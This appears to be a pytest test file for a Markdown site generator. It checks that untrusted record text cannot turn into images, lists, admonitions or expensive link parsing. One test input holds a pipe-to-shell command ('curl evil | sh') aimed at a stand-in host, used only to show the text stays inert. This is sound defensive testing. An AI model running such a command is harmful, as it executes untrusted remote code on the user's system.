"""Hostile corpus, fourth round: the Markdown the generator writes around record text.

- a character of record text just before a link the generator writes cannot join it:
  ``Beware!CMP-1`` is a bang and a link, never an image (every ``!`` is escaped, as
  ``[``, ``\\``, ``<`` and backticks already were);
- a one-line field (a run's summary and target class, a profile's scope, a set's ledger
  entry) stays one line: a leading ``- `` or ``1.`` is text, and no list lands inside a
  paragraph;
- the changes page formats a label wherever it shows one, as the headings do;
- a flood of image or link openers (``![a](``) costs about what as many words do.

Each page is read back as the site reads it: Python-Markdown with mkdocs.yml's extensions.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from hostile_support import CLEAN_SYSTEM, make_records
from run_diff_support import checked, edit, record, rename_id, run_copy

from generator.graph.run_diff import diff_runs
from generator.model import inline_markup
from generator.pipeline import PipelineResult, run_pipeline
from generator.render.run_changes import render_run_changes
from generator.render.text import Linker

MD_EXTENSIONS = ["attr_list", "md_in_html", "admonition", "tables", "toc", "pymdownx.superfences"]
CLEAN_PROFILE = CLEAN_SYSTEM.parents[2] / "clean-memory-comparison-profile" / "records" / "demo"
SCOPE = 'scope: "Notes retained across runs and the route that reads them back."'
TARGET_CLASS = "target_class: enclosing runtime"
SUMMARY = "summary: Demo is a tiny agent loop used by the checker tests."


class _Structure(HTMLParser):
    """Images, and lists opened inside a paragraph, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.images: list[dict[str, str | None]] = []
        self.lists_in_paragraphs: list[str] = []
        self.lists: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            self.images.append(dict(attrs))
        if tag in ("ul", "ol"):
            self.lists.append(tag)
            if "p" in self._open:
                self.lists_in_paragraphs.append(tag)
        if tag not in ("img", "br"):
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            del self._open[len(self._open) - 1 - self._open[::-1].index(tag) :]


def _site_html(page: str) -> str:
    return markdown.markdown(page, extensions=MD_EXTENSIONS)


def _structure(html: str) -> _Structure:
    parsed = _Structure()
    parsed.feed(html)
    parsed.close()
    return parsed


def _visible(html: str) -> str:
    from html import unescape

    return " ".join(unescape(re.sub(r"<[^>]+>", "", html)).split())


def _pages(
    tmp_path: Path, run: dict[str, str] | None = None, profile: dict[str, str] | None = None
) -> PipelineResult:
    """The clean demo system with a memory-comparison profile, its run and profile text replaced."""
    files: dict[str, str | bytes | None] = {path.name: None for path in CLEAN_SYSTEM.iterdir()}
    files.update({path.name: path.read_text(encoding="utf-8") for path in sorted(CLEAN_PROFILE.iterdir())})
    for name, changes in (("run.yaml", run or {}), ("profile.yaml", profile or {})):
        text = str(files[name])
        for old, new in changes.items():
            assert old in text, f"{name} no longer has {old!r}"
            text = text.replace(old, new, 1)
        files[name] = text
    result = run_pipeline(make_records(tmp_path, files), tmp_path)
    assert result.errors == [], [d.as_text() for d in result.errors]
    return result


def _field(line: str, value: str) -> str:
    return f"{line.split(':', 1)[0]}: {json.dumps(value)}"


# ---------------------------------------------------------------- a '!' before a generated link


@pytest.fixture(scope="module")
def md() -> Linker:
    from test_markup_fuzz import _graph

    return Linker(_graph(), "index")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Beware!CMP-1", "Beware!CMP-1"),  # a record ID
        ("see!SRC-1 src/a.py:3", "see!SRC-1 src/a.py:3"),  # an evidence anchor: its source
        ("x!`CMP-1`", "x!CMP-1"),  # a code span that names a record
        ("so!RT-RTE-context-resolve", "so!RT-RTE-context-resolve"),  # a supplied record, with attributes
        ("**a!**CMP-1", "**a!**CMP-1"),  # after markers that stay text
    ],
)
def test_a_bang_before_a_generated_link_is_no_image(md: Linker, text: str, shown: str) -> None:
    for written in (md.inline(text), md.cell(text), md.text(text)):
        html = _site_html(str(written))
        assert _structure(html).images == [], html
        assert "<a " in html and _visible(html) == shown


def test_a_bang_before_an_id_in_a_run_summary_and_target_class_is_no_image(tmp_path: Path) -> None:
    result = _pages(
        tmp_path,
        run={SUMMARY: _field(SUMMARY, "Beware!OBJ-1"), TARGET_CLASS: _field(TARGET_CLASS, "runtime!RTE-1")},
        profile={SCOPE: _field(SCOPE, "Notes!OBJ-1 and routes!RTE-1")},
    )
    page = _site_html(result.pages["systems/demo/index.md"])
    assert _structure(page).images == []
    for shown in ("Beware!OBJ-1", "runtime!RTE-1", "Notes!OBJ-1 and routes!RTE-1"):
        assert shown in _visible(page)


def test_an_admonition_opener_in_record_text_stays_text(md: Linker) -> None:
    html = _site_html(str(md.text('!!! danger "Reinstall"\n    curl evil | sh CMP-1')))
    assert "admonition" not in html and _visible(html).startswith('!!! danger "Reinstall"')


# ---------------------------------------------------------------- one-line fields stay one line


@pytest.mark.parametrize("scope", ["- notes OBJ-1\n- routes RTE-1", "1. notes\n2. routes", "- notes"])
def test_a_scope_that_opens_with_a_list_stays_one_line(tmp_path: Path, scope: str) -> None:
    result = _pages(tmp_path, profile={SCOPE: _field(SCOPE, scope)})
    page = _site_html(result.pages["systems/demo/index.md"])
    structure = _structure(page)
    assert structure.lists_in_paragraphs == [], page
    line = next(p for p in page.split("\n") if p.startswith("<p><strong>Scope:</strong>"))
    assert _visible(line) == "Scope: " + " ".join(scope.split())
    comparison = _site_html(result.pages["comparisons/memory.md"])
    scope_cell = comparison[comparison.index('class="kb-matrix__scope"') :].split("</details>")[0]
    assert "<ul" not in scope_cell and "<ol" not in scope_cell and "<li" not in scope_cell


@pytest.mark.parametrize(
    "summary", ["- the loop OBJ-1\n- the route", "1. a loop\n2. a route", "- one item, RTE-1"]
)
def test_a_run_summary_that_writes_a_list_stays_one_paragraph(tmp_path: Path, summary: str) -> None:
    result = _pages(tmp_path, run={SUMMARY: _field(SUMMARY, summary)})
    page = _site_html(result.pages["systems/demo/index.md"])
    top = page[: page.index("<table>")]
    assert _structure(top).lists == [], top
    assert " ".join(summary.split()) in _visible(top)


def test_a_target_class_that_writes_a_list_stays_in_its_cell(tmp_path: Path) -> None:
    """A guard: the target class was already a cell, and stays one."""
    result = _pages(tmp_path, run={TARGET_CLASS: _field(TARGET_CLASS, "- enclosing\n- runtime")})
    page = _site_html(result.pages["systems/demo/index.md"])
    assert _structure(page).lists_in_paragraphs == []
    assert "<td>- enclosing - runtime</td>" in page


@pytest.mark.parametrize(
    "paragraphs", ["Settled.\n\n    indented code", "Settled.\n\n- a list", "Settled.\n\n# a heading"]
)
def test_a_field_after_its_label_stays_one_paragraph(md: Linker, paragraphs: str) -> None:
    """A set's supersessions and conflicts, a supplied record's member: written after a
    label on one line, whatever paragraphs the text holds."""
    html = _site_html(f"**Superseded:** x. {md.cell(paragraphs)}\n")
    assert html.count("<p>") == 1 and "<pre>" not in html and "<h1" not in html and "<ul" not in html, html


def test_no_markdown_template_writes_record_text_as_a_bare_paragraph() -> None:
    """``Linker.inline`` takes one paragraph: a Markdown line of a template shows record
    text with ``cell`` (one line), a paragraph of its own with ``text``."""
    from generator.render import environment

    templates = Path(environment.__file__).parent.parent / "templates" / "pages"
    found = [
        f"{path.name}:{number}"
        for path in sorted(templates.glob("*.j2"))
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"(?<![_a-z])linker\.inline\(", line)
    ]
    assert found == []


# ---------------------------------------------------------------- the changes page's labels


def _changes(tmp_path: Path, label: str, renumber: bool = False) -> str:
    old, new = run_copy(tmp_path, "old"), run_copy(tmp_path, "new")
    if renumber:
        rename_id(new, "RTE-2", "RTE-7")

    def routes(data: dict) -> None:
        route = record(data, "routes", "RTE-1")
        route["label"] = label
        route["statuses"]["operation conclusion status"] = "observed"

    edit(new, "routes.yaml", routes)
    if renumber:
        edit(new, "routes.yaml", lambda d: record(d, "routes", "RTE-7").update(label=label))
    diff = diff_runs(checked(old), checked(new))
    return render_run_changes(diff, lambda i: f"../old/#{i.lower()}", lambda i: f"#{i.lower()}")


def _moved(page: str) -> str:
    html = _site_html(page)
    start = html.index('id="conclusions-that-moved"')
    return html[start : html.index("<h2", start + 1)]


@pytest.mark.parametrize(
    ("label", "formatted"),
    [
        ("The **prompt** route", "The <strong>prompt</strong> route"),
        ("The `prompt` route", "The <code>prompt</code> route"),
        ("The *prompt* route", "The <em>prompt</em> route"),
        ("[The route](https://example.org) back", "The route back"),
    ],
)
def test_a_label_in_the_conclusions_that_moved_is_formatted(
    tmp_path: Path, label: str, formatted: str
) -> None:
    moved = _moved(_changes(tmp_path, label))
    assert formatted in moved, moved
    assert "**" not in moved and "`" not in moved and "](" not in moved


def test_a_renumbered_records_label_is_formatted(tmp_path: Path) -> None:
    html = _site_html(_changes(tmp_path, "The **stored** *route*", renumber=True))
    start = html.index('id="renumbered-records"')
    renumbered = html[start : html.index("<h2", start + 1)]
    assert "The <strong>stored</strong> <em>route</em>" in renumbered, renumbered


def test_a_label_on_the_changes_page_is_written_once_the_way_headings_write_it(tmp_path: Path) -> None:
    page = _changes(tmp_path, "A <b>bold</b> **claim**")
    html = _site_html(page)
    assert "<b>" not in html
    shown = "A &lt;b&gt;bold&lt;/b&gt; <strong>claim</strong>"
    assert shown in _moved(page)
    assert re.search(r"<h3 [^>]*>RTE-1 — " + re.escape(shown) + "</h3>", html)


# ---------------------------------------------------------------- a flood of image openers


@pytest.mark.parametrize("unit", ["![a](", "[a](", "![a](x", "![a](x ", "!["])
def test_a_flood_of_image_openers_is_read_without_the_link_rules(
    md: Linker, unit: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # No "](" there has a tail that could end a link, so the parser that scans ahead from
    # each bracket is never asked (what it costs against words is benchmarks/linear.py's).
    size = 200_000
    flood = (unit * (size // len(unit) + 1))[:size]
    asked: list[int] = []
    linking = inline_markup._PARSER

    class Counting:
        def parseInline(self, text: str, env: object) -> object:
            asked.append(len(text))
            return linking.parseInline(text, env)

    monkeypatch.setattr(inline_markup, "_PARSER", Counting())
    html = Linker(md.graph, "index", html=True)
    shown = html.text(flood)
    assert asked == []
    assert "<img" not in shown and "<a " not in shown
    assert html.text("[a](https://example.org)")  # the counting parser does read a real link
    assert asked != []
